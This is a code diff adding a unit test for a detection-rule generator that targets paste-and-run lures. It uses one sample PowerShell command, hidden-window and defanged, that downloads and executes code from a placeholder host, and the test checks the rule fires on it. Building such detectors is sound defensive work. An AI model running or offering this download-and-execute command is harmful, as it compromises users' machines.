@@ -61,6 +61,22 @@ describe('the Run dialog history (RunMRU) of a paste-and-run lure', () => {
     });
   });
 
+  it('keys a pasted PowerShell command on the cmdlet it runs, not on where its payload sits', () => {
+    const typed = 'powershell -w h -c "iex (Invoke-RestMethod hxxps://quill-verify[.]example/p)"';
+    const draft = registryRule({
+      cmdlines: [{ ...item, value: typed, executable: 'powershell' }],
+      processPairs: [{ ...item, value: 'explorer.exe -> powershell.exe', parent: 'explorer.exe', child: 'powershell.exe' }],
+    });
+    const rule = (draft?.rule ?? {}) as unknown as Rule;
+    expect(rule.detection['selection']).toMatchObject({ 'Details|contains|all': ['powershell', 'Invoke-RestMethod'] });
+    const observables = [
+      { type: 'registry_key', value: runMru.value },
+      { type: 'cmdline', value: typed },
+      { type: 'process_lineage', value: 'explorer.exe -> powershell.exe', attributes: { parent: 'explorer.exe', child: 'powershell.exe' } },
+    ];
+    expect(selfTestRule(draft?.rule ?? '', observables)).toMatchObject({ fires: true });
+  });
+
   it('writes no rule on the key alone when nothing shows what was pasted: every use of the dialog writes it', () => {
     expect(registryRule({ processPairs: [] })).toBeUndefined();
   });
